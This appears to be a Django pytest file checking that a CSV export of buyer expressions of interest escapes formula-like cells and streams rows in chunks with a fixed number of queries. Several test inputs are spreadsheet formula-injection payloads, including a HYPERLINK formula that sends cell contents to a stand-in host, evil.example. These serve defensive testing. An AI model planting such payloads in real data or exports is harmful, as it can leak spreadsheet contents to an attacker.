"""The coordinators' CSV export is safe to open in a spreadsheet (no text cell becomes a live formula) and
streams, reading the EOIs a chunk at a time with a fixed number of queries however many there are."""

import csv
import io

import pytest
from django.urls import reverse

from hubcatalog.spreadsheets import safe_cell
from interests import admin as interests_admin
from tests.factories import make_buyer, make_interest, make_listing, make_organisation, make_product

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:interests_expressionofinterest_export")


@pytest.fixture
def superuser_client(client, superuser, settings):
    settings.STAFF_TWO_FACTOR = False  # the export, not the second factor, is tried here
    client.force_login(superuser)
    return client


def read(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    "text, written",
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1, "Open")',
            '\'=HYPERLINK("https://evil.example/?"&A1, "Open")',
        ),
        ("+49 30 1234567", "'+49 30 1234567"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ministry of Defence", "Ministry of Defence"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_it_neutralises_text_that_a_spreadsheet_would_read_as_a_formula(text, written):
    assert safe_cell(text) == written


@pytest.mark.parametrize("number", [0, 15, -3, 2.5])
def test_a_number_stays_a_number(number):
    assert safe_cell(number) == number


def test_an_organisation_named_like_a_formula_is_exported_as_text(superuser_client, hub_a):
    buyer = make_buyer(organisation=make_organisation('=HYPERLINK("https://evil.example/","Open")'))
    product = make_product("@Falcon")
    make_interest(buyer, [make_listing(product, hub_a, quantity_available=12)], quantity=15)

    response = superuser_client.get(EXPORT)

    assert response.streaming is True
    [row] = read(response)
    assert row["organisation"] == '\'=HYPERLINK("https://evil.example/","Open")'
    assert row["product"] == "'@Falcon"
    assert (row["quantity"], row["listed quantity"]) == ("15", "12")


def test_the_export_is_in_the_language_of_the_request_though_written_later(superuser_client, hub_a):
    make_interest(make_buyer(), [make_listing(hub=hub_a)])

    response = superuser_client.get(EXPORT, HTTP_ACCEPT_LANGUAGE="en")
    [row] = read(response)

    assert row["status"] == "Submitted"
    assert row["overdue"] == "no"


@pytest.mark.parametrize("count", [3, 9])
def test_it_reads_the_interests_a_chunk_at_a_time_with_a_fixed_number_of_queries(
    superuser_client, hub_a, hub_b, monkeypatch, django_assert_max_num_queries, count
):
    monkeypatch.setattr(interests_admin, "EXPORT_CHUNK_SIZE", 2)
    buyer = make_buyer()
    for _index in range(count):
        make_interest(buyer, [make_listing(hub=hub_a), make_listing(hub=hub_b)])

    response = superuser_client.get(EXPORT)
    # Streaming: the rows are read after the view returned. The EOIs (with organisation and reviewer), in
    # one query or cursor, and a query for the lines (with hub and product) of each chunk of 2 EOIs.
    with django_assert_max_num_queries(1 + (count + 1) // 2):
        rows = read(response)

    assert len(rows) == 2 * count
